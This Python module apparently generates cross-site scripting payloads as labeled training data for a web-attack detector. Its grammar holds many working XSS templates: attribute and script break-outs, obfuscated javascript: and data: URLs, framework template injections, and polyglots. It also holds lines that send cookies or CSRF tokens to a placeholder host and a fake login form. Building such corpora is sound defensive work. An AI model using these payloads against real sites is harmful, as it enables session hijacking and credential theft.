"""Cross-site scripting as script: attribute and string break-outs, URLs, DOM, assembled code."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.xss_base import POSTS, XSS, html_escape
from securitai.train.corpora.kinds import COOKIE, HEADER, NAME, PATH, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
attr:
  6×‹pre›‹q›‹sp›‹ev›‹eq›‹hq›‹call›‹hq›‹sp›‹at›
  3×‹pre›‹q›‹ev›=‹call›‹sp›‹q›
  2×‹pre›‹q›‹sp›autofocus onfocus=‹call›‹sp›‹at›
  2×‹pre›‹q›‹sp›onmouseover=‹hq›‹call›‹hq›‹sp›‹at›
  ‹pre›‹q›‹sp›style=‹hq›animation-name:‹az›‹hq› onanimationstart=‹hq›‹call›‹hq›‹sp›‹at›
  ‹pre›‹q›‹sp›accesskey=x onclick=‹call› x=‹q›
  ‹pre›‹q›‹sp›style=x:expression(‹call›)‹sp›‹at›
  ‹pre›‹q›/‹ev›=‹call›/‹q›
  ‹pre›‹q›‹sp›href=javascript:‹call›‹sp›‹at›
  ‹pre›‹q›‹sp›formaction=javascript:‹call› type=submit ‹at›
  ‹ev›=‹call›
  x ‹ev›=‹call›
  ‹q›‹sp›‹ev›‹sp›=‹sp›‹call›
  ‹ev›=‹ev›=‹ev›=‹f›
q = "¦'¦`¦&quot;¦\"¦'"¦&#39;¦%22
at = ¦x="¦y='¦a="¦//¦"¦'¦>¦autofocus¦tabindex=1¦id=x¦bad="¦contenteditable¦type=image src=1¦x
jsbreak:
  4×‹pre›‹jq›;‹call›;‹jq›
  4×‹pre›‹jq›-‹call›-‹jq›
  3×‹pre›‹jq›+‹call›+‹jq›
  2×‹pre›‹jq›;‹call›//
  2×‹pre›‹jq›)‹sp›;‹call›//
  ‹pre›‹jq›});‹call›;({‹az›:‹jq›
  ‹pre›‹jq›);‹call›;//
  ‹pre›\‹jq›;‹call›//
  ‹pre›\\‹jq›;‹call›//
  ‹pre›‹jq›];‹call›;//
  ‹pre›‹jq›}};‹call›;{{‹jq›
  ‹pre›‹jq›,‹call›,‹jq›
  ‹pre›‹jq›||‹call›||‹jq›
  ‹pre›‹jq›&&‹call›&&‹jq›
  ‹pre›‹jq›^‹call›^‹jq›
  ‹pre›‹jq›*‹call›*‹jq›
  ‹pre›‹jq›?‹call›:‹jq›
  ‹pre›‹jq›in ‹call› in‹jq›
  ‹pre›‹jq›;throw ‹n›;‹jq›
  ‹pre›${‹call›}
  ${‹call›}
  `${‹call›}`
  ‹pre›‹nl›‹call›
  ‹pre›*/‹call›/*
  ‹pre›*/;‹call›//
  ‹pre›--></script><script>‹call›</script>
  ‹pre›</script><script>‹call›</script>
  ‹pre›‹jq›;//--><script>‹call›</script>
  ‹pre›%27;‹call›;%27
  ‹pre›\u0027;‹call›;\u0027
  ‹pre›\x27-‹call›-\x27
  ‹pre›&#39;-‹call›-&#39;
  ‹pre›&apos;-‹call›-&apos;
  -‹call›-
  +‹call›
  +‹call›+
  ;‹call›;
  );‹call›//
  };‹call›;{
  1};a=eval;b=alert;a(b(‹n›));//
  ‹call›
  ‹call›//‹az›
  ‹n›;‹call›
  (‹call›)
  !‹call›
  void ‹call›
  delete ‹call›
  typeof ‹call›
  new ‹call›
  if(1)‹call›
  /‹az›/;‹call›
  `-‹call›-`
  ‹pre›‹jq›;a='‹call›';‹nl›eval(a)
  ‹jq›,jQuery("body").html(‹arg›);//
jq = '¦"¦'¦"¦`
url0:
  5×javascript:‹call›
  javascript:‹call›//‹site›
  javascript://‹site›/%0a‹call›
  javascript://%0a‹call›
  javascript://%0d%0a‹call›//
  javascript:%0a‹call›
  javascript:/*‹az›*/‹call›
  javascript:"<script>‹call›</script>"
  javascript:void(‹call›)
  javascript:eval(‹arg›)
  javascript:document.write(‹arg›)
  javascript:window.onerror=alert;throw ‹n›
  javascript:'‹az›'?‹call›:0
  javascript:\u0061lert(‹n›)
  javascript:%61lert(‹n›)
  javascript&colon;‹call›
  javascript&#58;‹call›
  javascript&#x3A;‹call›
  java&tab;script:‹call›
  java&Tab;script&colon;‹call›
  java&NewLine;script:‹call›
  java‹tab›script:‹call›
  java‹nl›script:‹call›
  java%0ascript:‹call›
  java%09script:‹call›
  java%0d%0ascript%0d%0a:‹call›
  ja\nva\tscript\r:‹call›
  \x6a\x61vascript:‹call›
  \u006aavascript:‹call›
  jav&#x09;ascript:‹call›
  jav&#x0A;ascript:‹call›
  &#106;avascript:‹call›
  ‹ents›
  &#1;javascript:‹call›
  %01javascript:‹call›
  ‹sp›javascript:‹call›
  ‹nl›javascript:‹call›
  \x01javascript:‹call›
  jAvAsCrIpT:‹call›
  JaVaScRiPt://‹site›/%250a‹call›
  vbscript:msgbox(‹n›)
  vbscript:MsgBox("XSS")
  livescript:‹call›
  mocha:‹call›
  feed:javascript:‹call›
  view-source:javascript:‹call›
  data:text/html,<script>‹call›</script>
  data:text/html,<svg onload=‹call›>
  data:text/html;base64,‹b64x›
  data:text/html;charset=utf-8,%3Cscript%3E‹call›%3C/script%3E
  data:,‹call›
  data:text/javascript,‹call›
  data:application/javascript,‹call›
  data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="‹call›"/>
  data:image/svg+xml;base64,‹b64x›
  data:application/x-x509-user-cert;&NewLine;base64,‹b64x›
  data:;base64,‹b64x›
  //‹host›/%0ajavascript:‹call›
  x:javascript:‹call›
  ?javascript:‹call›
  "javascript:‹call›"
  javascript:alert(‹n›)//http://‹site›
  intent://‹host›#Intent;scheme=javascript:‹call›;end
hrefs:
  <a‹gap›href‹eq›‹hq›‹url0›‹hq›>‹word›</a>
  <a href="‹url0›" target=_blank>‹word›
  <iframe‹gap›src‹eq›‹hq›‹url0›‹hq›></iframe>
  <iframe srcdoc="<script>‹call›</script>"></iframe>
  <iframe srcdoc='&lt;body onload=‹f›&lpar;‹n›&rpar;&gt;'>
  <iframe/src=//‹hostport›>
  <iframe src="‹url›" width="0" height="0" style="display:none"></iframe>
  <object‹gap›data‹eq›‹hq›‹url0›‹hq›></object>
  <embed‹gap›src‹eq›‹hq›‹url0›‹hq›>
  <embed code="‹url›" allowscriptaccess=always>
  <form‹gap›action‹eq›‹hq›‹url0›‹hq›><input type=submit>
  <form><button‹gap›formaction‹eq›‹hq›‹url0›‹hq›>‹word›
  <form id=‹x=az›></form><button form=‹$x› formaction="‹url0›">‹word›
  <form action="‹url›"><input name=‹user› ><input name=password type=password><input type=submit value="Log in">
  <isindex action="‹url0›" type=submit value=‹az›>
  <img‹gap›src‹eq›‹hq›‹url0›‹hq›>
  <img dynsrc="‹url0›">
  <img lowsrc="‹url0›">
  <img src="‹url›?‹az›" >
  <body background="‹url0›">
  <table background="‹url0›">
  <input type="image" src="‹url0›">
  <link rel="stylesheet" href="‹url0›">
  <link rel=import href="//‹host›">
  <meta http-equiv="refresh" content="0;url=‹url0›">
  <meta http-equiv="refresh" content="0; url=http://;url=‹url0›">
  <meta http-equiv=refresh content=0;url=‹url›>
  <meta http-equiv="set-cookie" content="‹az›=‹rnd›">
  <meta http-equiv="Link" content="<‹url›>; rel=stylesheet">
  <area‹gap›href=‹url0› shape=default>
  <base href="‹url0›">
  <frameset><frame src="‹url0›"></frameset>
  <applet code="javascript:‹call›">
  <object classid="clsid:‹hexrun›"><param name=url value=‹url0›></object>
  <object type="text/x-scriptlet" data="‹url›"></object>
  <style>@import'‹url›';</style>
  <style>@import "‹url0›";</style>
  <style>body{-moz-binding:url("‹url›#xss")}</style>
  <style>li {list-style-image: url("‹url0›");}</style><ul><li>‹az›
  <style>*{background:url(//‹host›/?‹az›)}</style>
  <style>input[name=csrf][value^=‹c›]{background:url(//‹host›/‹c›)}</style>
  <style type="text/css">.‹az›{width:expression(‹call›);}</style>
  <div style="width:expression(‹call›)">
  <div style="x:\65xpression(‹call›)">
  <div style="background-image:url(‹url0›)">
  <div style="behavior:url(#default#time2)" onbegin="‹call›">
  <div style="background:url(//‹host›/\)!*‹az›:expression\(‹call›\));">‹az›</div>
  <xss style="behavior: url(‹az›.htc);">
  <‹tag› style="‹az›:exp/**/ression(‹call›)">
  <xss style="xss:expr/*XSS*/ession(‹call›)">
  ‹word›" style="background:url(‹url0›)
  exp/*<xss style='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(‹call›)'>
  <a href=# onclick="window.open('‹url›')">‹word›</a>
  <a href="‹url›"><img src=x></a>
  [‹word›](‹url0›)
  ![‹word›](‹url0›)
  ![‹word›]("onerror="‹call›)
  [‹word›](javascript:‹call›)
  <javascript:‹call›>
  [a]: (javascript:‹call›)
  [url=‹url0›]‹word›[/url]
  [img]‹url0›[/img]
hrefs0:
  ‹start›‹hrefs›‹tailx›
template:
  {{constructor.constructor('‹call›')()}}
  {{$on.constructor('‹call›')()}}
  {{'a'.constructor.prototype.charAt=[].join;$eval('x=‹n›} } };‹call›//');}}
  {{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'‹call›')()}}
  {{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","‹call›"].sort(toString.constructor)}}
  {{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=‹call›');}}
  {{[].pop.constructor&#40;'‹call›'&#41;&#40;&#41;}}
  {{_openBlock.constructor('‹call›')()}}
  {{_c.constructor('‹call›')()}}
  {{$emit.constructor`‹call›`()}}
  {{_Vue.h.constructor`‹call›`()}}
  {{this.constructor.constructor("‹call›")()}}
  {{!ready && (ready = true) && (!call ? $$watchers[0].get(toString.constructor.prototype) : (a = apply) && (apply = constructor) && (valueOf = call))}}
  {{x=‹call›}}
  {{'‹az›'|orderBy:'‹call›'}}
  {{[1]|reduce:$event.view.alert}}
  <div ng-app ng-csp><input autofocus ng-focus=$event.composedPath()|orderBy:'‹call›'></div>
  <div ng-app>{{‹d1›+‹d1›}}</div>
  <input id=x ng-focus=$event.path|orderBy:'(z=alert)(‹n›)'>#x
  <x ng-app>{{$new.constructor('‹call›')()}}
  <div v-html="''.constructor.constructor('‹call›')()">‹az›</div>
  <x v-if=_c.constructor('‹call›')()>
  <div @click="$emit.constructor('‹call›')()">‹az›</div>
  <x :[‹az›]="‹call›">
  <x @[_b.constructor`‹call›`()]>
  <div x-data x-init="‹call›"></div>
  <div x-html="'<img src=x onerror=‹call›>'" x-data></div>
  <div data-bind="html:'<img src=x onerror=‹call›>'">
  <div hx-on:load="‹call›" hx-trigger="load" hx-get="/">
  <div _="on load ‹call›">
  <div data-role=popup id='--><script>‹call›</script>'></div>
  <div uk-icon="<img src onerror=‹call›>">
  <button data-toggle=tooltip data-html=true title='<script>‹call›</script>'>
  <%= '<script>‹call›</script>' %>
  {"__html":"<img src=x onerror=‹call›>"}
  {"dangerouslySetInnerHTML":{"__html":"<svg onload=‹call›>"}}
  <amp-img src=x on="tap:‹az›" onerror=‹call›>
  ${alert(‹n›)}
  #{alert(‹n›)}
poly:
  jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */‹ev›=‹call› )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=‹call›//>\x3e
  ';‹call›//';‹call›//";‹call›//";‹call›//--></script>">'><script>‹call›</script>
  "><svg/onload=‹call›>"@‹site›
  '"><img src=x onerror=‹call›>{{‹d1›*‹d1›}}${‹d1›*‹d1›}
  -->"/></script><svg onload=‹call›>
  " onclick=‹call›//<button ‘ onclick=‹call›//> */ ‹call›//
  javascript:"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html ‹ev›=/*&lt;/*/‹call›//">
  '>"></title></style></textarea></script><script>‹call›</script>
  ‹pre›'-‹call›-'"><svg onload=‹call›>
  \'-‹call›}//<svg/onload=‹call›>
  ">><marquee><img src=x onerror=‹call›></marquee>"></plaintext\></|\><plaintext/onmouseover=‹call›>
  '">*/--></title></style></script><‹tag› ‹ev›=‹call›>
  <img src=x onerror=‹call›//"'--><svg/onload='‹call›'
  %0ajavascript:`/*\"/*-->&lt;svg onload='/*</template></noembed></noscript></style></title></textarea></script><html onmouseover="/**/ ‹call›//'">`
assembled:
  s1=‹split›;s2='';s3=s1+s2;URL=s3
  s1=''+'‹az›'+'';s2=‹split›;u1=s1+s2;‹call›
  a='ev';b='al';(0)[a+b](name)
  a=eval,b=(name);a(b)
  a=alert;b='‹az›';a(b)
  x='\x61\x6c';y='ert';top[x+y](‹n›)
  x=/‹az›eva/i[-1]‹nl›y=/nam/i[-1]‹nl›x=(0)[x+'l'](y+'e')‹nl›x
  var ‹x=az›=‹split›;‹nl›window[‹$x›](‹arg›)
  var ‹x=az›=‹split›;‹nl›‹$x›+='‹az›';‹nl›eval(‹$x›)
  (function(){‹call›})()
  (()=>{‹call›})()
  ((‹x=az›)=>‹$x›(‹n›))(alert)
  function ‹x=az›(){‹call›}‹$x›()
  for(i in self)if(/^al/.test(i))self[i](‹n›)
  for(‹x=az› in {j:this}.j)!/ale.t/(‹$x›)||this[‹$x›](‹n›)
  Object.keys(this).filter(x=>/ale/.test(x)).map(x=>this[x](‹n›))
  with({‹az›:alert})‹az›(‹n›)
  ‹x=az›={x :this}.x.alert‹nl›‹$x›(‹n›)
  ‹x=az›=Iterator([this]).next()‹nl›‹$x›[1].alert(‹n›)
  ({}).constructor.constructor(‹split›+'(‹n›)')()
  Array.prototype.map.call([‹n›],alert)
  "‹az›".replace(/./,alert)
  '‹az›'.replace(/.+/,eval)
  lo=/,‹word›/,alert('‹word›')
  [].sort.call`${alert}‹n›`
  {}[alert(‹n›)]
  if(document.domain)‹call›
  try{‹az›}catch(e){‹call›}
  while(1)‹call›
  do{‹call›}while(0)
  switch(1){case 1:‹call›}
  ‹fuck›
  ‹fuck›(‹fuck›)()
  eval(‹split›+'('+‹n›+')')
  eval('‹escs›'+'(‹n›)')
  eval.call(this,unescape.call(this,location))
  d=0||'une'+'scape'||0;a=0||'ev'+'al'||0;b=0||'locatio';b+=0||'n'||0;c=b[a];d=c(d);c(d(c(b)))
  y=('na') + new Array +'me'‹nl›y‹nl›(x)getter=0?0+0:eval,x=y
  /*@cc_on@set@x=‹n›@set@s=‹n›@*/@cc_on ‹call›
  document.__parent__._=alert;_(‹n›)
  a={toString:alert};a+''
  location.hash.substr(1).replace(/(.*)/,eval)
  $=document,$=$.URL,$$=unescape,$$$=eval,$$$($$($))
  $_=1,$__=alert,$__($_)
  _=alert;_(‹n›)
  ゛=alert,゛(‹n›)
  ñ=alert;ñ(‹n›)
  Uint8Array.from(‹arg›,alert)
  document.querySelector('‹az›').innerHTML=location.hash
  element.innerHTML=decodeURI('‹az›')
  window.name;eval(window.name)
  default xml namespace=toolbar,b=1&&this.atob‹nl›e=this[toolbar,b('ZXZhbA')]
  a=<r>loca<v>e</v>tion.has<v>va</v>h.subs<v>l</v>tr(1)</r>‹nl›{b=0e0[a.v.text()]}
  x=‹split›‹nl›+‹split›;‹nl›setTimeout(x)
  ‹az›.constructor.constructor('return this')().alert(‹n›)
  const {‹az›:{alert:‹x=az›}}={‹az›:window};‹$x›(‹n›)
  ‹c›=‹c›=>‹call›;‹c›``
  async()=>{await fetch('‹url›?'+document.cookie)}
  document.cookie='‹az›=‹rnd›;path=/';‹call›
  Components.classes['@mozilla.org/process/util;1'].createInstance()
  window.external.AddFavorite('‹url›')
  new ActiveXObject('WScript.Shell').Run('‹wcmd0›')
  getURL("javascript:‹call›")
""",
    XSS,
)
_ALL = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("xss.attribute", Category.XSS, _G.maker("attr", *POSTS), 3.0, _ALL),
    AttackKind("xss.script_break", Category.XSS, _G.maker("jsbreak", html_escape), 4.0, _ALL),
    AttackKind("xss.url", Category.XSS, _G.maker("url0", html_escape), 3.0, (VALUE, HEADER, PATH)),
    AttackKind("xss.href", Category.XSS, _G.maker("hrefs0", *POSTS), 5.0, (*_ALL, NAME)),
    AttackKind("xss.template", Category.XSS, _G.maker("template", html_escape), 2.0),
    AttackKind("xss.polyglot", Category.XSS, _G.maker("poly", *POSTS), 1.5, _ALL),
    AttackKind("xss.assembled", Category.XSS, _G.maker("assembled", html_escape), 2.0),
)
